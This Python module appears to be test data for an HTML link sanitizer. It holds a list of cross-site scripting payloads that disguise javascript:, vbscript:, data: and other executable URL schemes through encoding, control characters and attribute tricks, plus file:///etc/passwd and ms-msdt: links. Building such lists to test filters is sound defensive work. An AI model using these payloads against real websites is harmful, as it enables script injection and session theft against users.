"""Addresses that run, in the spellings that browsers have taken for them."""
# ruff: noqa: E501  (what is hostile stays on one line)

from collections.abc import Mapping
from typing import Final

_SCHEMES: Final = {
    "javascript": '<a href="javascript:%JS%">x</a>',
    "mixed case": '<a href="JaVaScRiPt:%JS%">x</a>',
    "leading blanks": '<a href=" \t\njavascript:%JS%">x</a>',
    "leading control characters": '<a href="\x01\x02\x1fjavascript:%JS%">x</a>',
    "tab inside": '<a href="java\tscript:%JS%">x</a>',
    "newline inside": '<a href="java\nscript\r:%JS%">x</a>',
    "tab by entity": '<a href="java&#9;script:%JS%">x</a>',
    "newline by name": '<a href="java&NewLine;script&colon;%JS%">x</a>',
    "letters by entity": '<a href="&#106;&#97;vascript:%JS%">x</a>',
    "letters by long entity": '<a href="&#0000106&#0000097vascript:%JS%">x</a>',
    "letters by hexadecimal entity": '<a href="&#x6A;&#X61;vascript&#x3a;%JS%">x</a>',
    "entity of an entity": '<a href="&amp;#106;avascript:%JS%">x</a><a href="javascript&amp;colon;%JS%">x</a>',
    "percent": '<a href="javascript:%63onsole.log(%ID%);%JS%">x</a><a href="%6aavascript:%JS%">x</a>',
    "comment": '<a href="javascript://%HOST%/%0a%JS%">x</a>',
    "like http": '<a href="javascript:http://%HOST%;%JS%">x</a><a href="javascript:/*http://x*/%JS%">x</a>',
    "after https": '<a href="https:javascript:%JS%">x</a><a href="mailto:javascript:%JS%">x</a>',
    "feed and view-source": '<a href="feed:javascript:%JS%">x</a><a href="view-source:javascript:%JS%">x</a>',
    "vbscript": '<a href="vbscript:%JS%">x</a>',
    "livescript": '<a href="livescript:%JS%">x</a><a href="mocha:%JS%">x</a>',
    "data": '<a href="data:text/html,<script>%JS%</script>">x</a>',
    "data in base64": '<a href="data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+">x</a>',
    "data as image": "<a href=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='%JS%'/>\">x</a>",
    "data with a lying type": '<img src="data:image/png,<script>%JS%</script>"><a href="data:image/png;x=text/html,<script>%JS%</script>">x</a>',
    "blob": '<a href="blob:null/x">x</a><a href="filesystem:http://x/">x</a>',
    "without quotes": "<a href=javascript:%JS%>x</a>",
    "null inside": '<a href="java\x00script:%JS%">x</a>',
    "soft hyphen inside": '<a href="java\u00adscript:%JS%">x</a><a href="\u2028javascript:%JS%">x</a><a href="\ufeffjavascript:%JS%">x</a>',
    "dotless letters": '<a href="javascr\u0131pt:%JS%">x</a><a href="java\u017fcript:%JS%">x</a>',
    "twice": '<a href="https://fine.example/" href="javascript:%JS%">x</a><a href="javascript:%JS%" href="https://fine.example/">x</a>',
    "in other attributes": '<p src="javascript:%JS%" data="javascript:%JS%" action="javascript:%JS%" cite="javascript:%JS%">x',
    "link around a table": '<a href="javascript:%JS%"><table><tr><td>x</td></tr></table></a>',
    "link never closed": '<a href="javascript:%JS%">x',
    "relative": '<a href="/graphql?query={viewer{user{login}}}">x</a><a href="graphql">x</a><a href="?x">x</a>',
    "to the page's own fragment": '<a href="#token=nbi_x">x</a><a href="#:~:text=secret">x</a>',
    "user before the host": '<a href="https://bank.example@%HOST%/">x</a>',
    "android intent and others": '<a href="intent://x#Intent;scheme=http;end">x</a><a href="ms-msdt:/id">x</a><a href="file:///etc/passwd">x</a>',
    "quote that ends the value": "<a href='https://fine.example/\"onclick=%JS% x=\"'>x</a>",
    "link to a script on a svg": '<a href="https://fine.example/"><svg><a xlink:href="javascript:%JS%"><text y=9>x</text></a></svg></a>',
}

FAMILIES: Final[Mapping[str, Mapping[str, str]]] = {"addresses": _SCHEMES}
